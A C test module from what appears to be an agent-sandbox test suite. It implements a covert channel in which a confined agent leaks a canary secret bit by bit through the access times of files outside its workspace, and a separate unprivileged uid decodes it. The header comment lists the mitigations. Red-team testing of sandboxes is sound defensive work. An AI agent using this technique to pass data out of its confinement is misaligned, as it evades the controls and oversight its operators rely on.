// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* atime_read - the access times of files OUTSIDE the workspace that every agent may read.
 * Reading a file updates its atime (relatime, the default: once while atime <= mtime, then once a
 * day), and any process that can stat the file sees it. An agent of any uid encodes one bit per
 * file by reading it or not; Landlock lets it read /usr, /etc, ... and the write rules do not
 * apply (a read is not a write). On a host, thousands of system files are eligible each day.
 * The orchestrator makes the files (48 root-owned 0644 files in /usr/local/share/mnc-atk-at-PID,
 * atime == mtime as created), so no real system file is touched.
 * Verifier: uid 65534 stat()s each file after the agent exited (bit = atime > mtime) and
 * decodes the canary's 12 hex digits.
 * Blocks it: a noatime mount of what agents read (or Landlock read rules limited to what the
 * agent needs); nothing in mnc that we know of. Flagged ATK_COVERT (a storage side channel like
 * /proc/locks, not in docs/threat-model.md's list): it runs with MNC_ATTACKS_COVERT=1. */
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>

#include "atk.h"

#define NFILES 48 /* 12 hex digits, 4 bits each */

static int prepare(struct atk_ctx *c)
{
    char d[300], p[320];
    c->slot[0] = 1; /* cleanup has files to remove */
    if (atk_sysfiles("at", NFILES, d, sizeof(d)) < 0) {
        snprintf(c->notes, sizeof(c->notes), "make the files outside the workspace: %s", strerror(errno));
        return -1;
    }
    /* atime and mtime one minute in the past, equal: the next read moves atime (relatime) */
    struct timespec ts[2];
    if (clock_gettime(CLOCK_REALTIME, &ts[0]) < 0)
        return -1;
    ts[0].tv_sec -= 60;
    ts[0].tv_nsec = 0;
    ts[1] = ts[0];
    for (int i = 0; i < NFILES; i++) {
        atk_sysfile(p, sizeof(p), d, i);
        if (utimensat(AT_FDCWD, p, ts, 0) < 0)
            return -1;
    }
    atk_set(c, "atdir", "%s", d);
    return 0;
}

static int agent(struct atk_ctx *c)
{
    const char *d = atk_arg(c, "atdir");
    if (!d || strncmp(c->secret, "mk", 2) != 0 || strlen(c->secret) < 2 + NFILES / 4)
        return 0;
    int reads = 0, first_err = 0;
    for (int i = 0; i < NFILES; i++) {
        char h[2] = {c->secret[2 + i / 4], 0};
        long v = strtol(h, NULL, 16);
        if (!((v >> (3 - i % 4)) & 1))
            continue;
        char p[200], b;
        atk_sysfile(p, sizeof(p), d, i);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && read(fd, &b, 1) == 1)
            reads++;
        else if (!first_err)
            first_err = errno;
        if (fd >= 0)
            close(fd);
    }
    atk_note(c, "read %d files outside the workspace (one per 1 bit): %s", reads, atk_errname(first_err));
    return 0;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    char got[32] = "mk";
    for (int i = 0; i < NFILES / 4; i++) {
        unsigned v = 0;
        for (int j = 0; j < 4; j++) {
            char p[200];
            struct stat st;
            atk_sysfile(p, sizeof(p), atk_arg(c, "atdir"), 4 * i + j);
            if (stat(p, &st) < 0)
                return 0;
            int bit = st.st_atim.tv_sec > st.st_mtim.tv_sec ||
                      (st.st_atim.tv_sec == st.st_mtim.tv_sec && st.st_atim.tv_nsec > st.st_mtim.tv_nsec);
            v = (v << 1) | (unsigned)bit;
        }
        got[2 + i] = "0123456789abcdef"[v];
    }
    got[2 + NFILES / 4] = 0;
    if (strcmp(got, c->canary) == 0) {
        snprintf(out, n, "uid 65534 decoded the canary from the access times of %d files in %s", NFILES,
                 atk_arg(c, "atdir"));
        return 1;
    }
    return 0;
}

static void verify(struct atk_ctx *c)
{
    char out[800];
    if (c->slot[0] && atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[0])
        atk_sysfiles_rm("at", NFILES);
}

static const struct atk A = {"atime_read", "access times of readable files outside the workspace (read = 1 bit)",
                             ATK_COVERT,   prepare,
                             agent,        NULL,
                             verify,       cleanup};
ATK_MAIN(A)
